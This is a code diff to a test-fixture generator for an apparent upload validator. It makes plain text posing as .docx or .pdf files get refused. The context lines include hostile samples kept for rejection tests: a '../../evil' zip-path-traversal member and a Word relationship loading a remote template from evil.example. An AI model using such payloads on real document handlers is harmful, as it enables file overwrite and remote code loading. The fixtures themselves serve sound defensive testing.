@@ -96,7 +96,7 @@ def _words() -> Iterator[Entry]:
     yield _refused("password.docx", OLD_WORD)
     yield _refused("cut-in-half.docx", word(*plain)[:300])
     yield _refused("not-word.docx", zipped({"readme.txt": "Payment"}))
-    yield _taken("text-named.docx", "\n".join(ENGLISH).encode(), DUE)
+    yield _refused("text-named.docx", "\n".join(ENGLISH).encode(), "name_says_otherwise")
     yield _refused("member-outside.docx", word(*plain, parts={"../../evil": b"x"}))
     template = {
         "word/_rels/document.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
@@ -117,7 +117,7 @@ def _pdfs() -> Iterator[Entry]:
     yield _refused("no-pages.pdf", pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"]))
     yield _refused("broken.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 20)
     yield _refused("cut.pdf", plain[:60])
-    yield _taken("text-named.pdf", "\n".join(ENGLISH).encode(), DUE)
+    yield _refused("text-named.pdf", "\n".join(ENGLISH).encode(), "name_says_otherwise")
     locked = b"/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<%s>/U<%s>>>/ID[<00><00>]" % (b"41" * 32, b"42" * 32)
     yield _refused("password.pdf", pdf(_objects(), locked))
     cycle = pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>"])
